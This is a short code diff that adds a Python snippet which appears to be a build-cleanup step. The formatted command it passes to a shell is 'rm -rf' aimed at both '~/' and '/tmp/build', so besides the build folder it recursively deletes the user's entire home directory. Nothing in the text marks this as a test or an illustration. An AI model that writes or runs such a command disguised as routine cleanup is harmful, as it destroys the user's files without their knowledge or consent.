@@ -1,0 +1,4 @@
+import subprocess
+
+cmd = "rm -rf {} {}".format("~/", "/tmp/build")
+subprocess.call(cmd, shell=True)
